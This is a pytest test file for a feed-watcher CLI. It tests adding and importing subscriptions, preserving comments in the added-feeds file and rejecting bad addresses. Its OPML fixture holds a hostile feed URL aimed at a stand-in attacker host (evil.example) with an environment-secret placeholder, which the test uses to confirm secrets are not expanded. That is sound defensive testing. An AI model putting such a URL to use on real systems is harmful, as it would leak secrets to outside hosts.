"""Subscriptions by command: added, imported, and written so that they read back as what was given."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from build import NOON
from farm import Farm, rss
from watcher.cli.main import main
from watcher.config import load
from watcher.store import open_store

OPML = """<opml version="2.0"><body><outline text="Asia &amp; Pacific"><outline text="${SECRET}" type="rss"
 xmlUrl="https://evil.example/?${SECRET}"/></outline><outline text="B" xmlUrl="https://b.example/rss?a=1&amp;b=2"/></body></opml>"""


@pytest.fixture
def config(tmp_path: Path) -> Path:
    (tmp_path / "sources").mkdir()
    path = tmp_path / "watcher.yaml"
    path.write_text(
        "include: [sources/*.yaml]\npolling: {private_networks: allow}\nfeeds: ['https://one.example/rss']\n"
    )
    (tmp_path / "sources" / "more.yaml").write_text("feeds: ['https://two.example/rss']\n")
    return path


def call(config: Path, *arguments: str) -> Result:
    return CliRunner().invoke(main, ["-c", str(config), "feeds", *arguments])


def test_what_others_wrote_fetches_no_secret(config: Path, monkeypatch: pytest.MonkeyPatch, farm: Farm) -> None:
    monkeypatch.setenv("SECRET", "canary")
    (config.parent / "list.opml").write_text(OPML)
    assert "added 2 feeds" in call(config, "import", str(config.parent / "list.opml")).output
    farm["/rss"] = rss("One").replace(b"<title>Farm", b"<title>${SECRET}")
    assert "added 1 feed " in call(config, "add", farm.url("/rss")).output
    feeds = {feed.url: feed for feed in load(config).feeds}
    assert feeds["https://evil.example/?${SECRET}"].name == "${SECRET}"
    assert feeds["https://evil.example/?${SECRET}"].tags == {"asia-&-pacific"}
    assert feeds[farm.url("/rss")].name == "${SECRET}"
    assert load(config).secrets == frozenset()


def test_an_address_that_names_a_secret_is_known_by_the_name(config: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET", "canary")
    call(config, "add", "https://k.example/rss?key=${SECRET}", "--no-check")
    settings = load(config)
    url = "https://k.example/rss?key=${SECRET}"
    assert url in {feed.url for feed in settings.feeds}
    assert settings.requests[url].address == "https://k.example/rss?key=canary"
    assert "canary" not in repr(settings.requests)


def test_what_stands_in_the_file_of_added_feeds_is_kept(config: Path) -> None:
    added = config.parent / "sources" / "added.yaml"
    call(config, "add", "a.example/rss", "--no-check", "--tag", "kr")
    added.write_text(added.read_text() + "# mine\n")
    call(config, "add", "b.example/rss", "--no-check")
    assert "# mine\n- url: https://b.example/rss\n" in added.read_text()
    added.write_text("{feeds: [https://c.example/rss]}\n")
    call(config, "add", "d.example/rss", "--no-check")
    added.write_text(added.read_text().replace("feeds:", "feeds:  # all"))
    assert {feed.url for feed in load(config).feeds} >= {"https://c.example/rss", "https://d.example/rss"}
    added.write_text("feeds:\n")
    call(config, "add", "e.example/rss", "--no-check")
    assert "https://e.example/rss" in {feed.url for feed in load(config).feeds}


@pytest.mark.parametrize("address", ["ftp://x.example/rss", "https://", "http:// x"])
def test_what_is_no_address_is_not_written(config: Path, address: str) -> None:
    result = call(config, "add", address, "--no-check")
    assert result.exit_code == 2
    assert "is not the address of a feed" in result.output
    assert not (config.parent / "sources" / "added.yaml").exists()


def test_an_import_of_something_else_names_the_file(config: Path) -> None:
    other = config.parent / "list.txt"
    other.write_text("hello")
    result = call(config, "import", str(other))
    assert result.exit_code == 1
    assert f"{other}: not XML" in result.output


def test_a_feed_that_moved_for_good_is_shown_with_its_new_address(config: Path) -> None:
    url = "https://one.example/rss"
    store = open_store(str(config.parent / "watcher.db"))
    store.sync_feeds(load(config).feeds, NOON)
    for claim in store.claim_due_feeds(NOON, 9, timedelta(minutes=1)):
        to = "https://new.example/rss" if claim.state.url == url else ""
        store.save_feeds([(claim, replace(claim.state, condition="ok", last_success_at=NOON, redirect_to=to))], NOON)
    store.close()
    line = next(line for line in call(config, "health", "--all").output.splitlines() if line.startswith(url))
    assert line.endswith("moved for good to https://new.example/rss: subscribe to that")
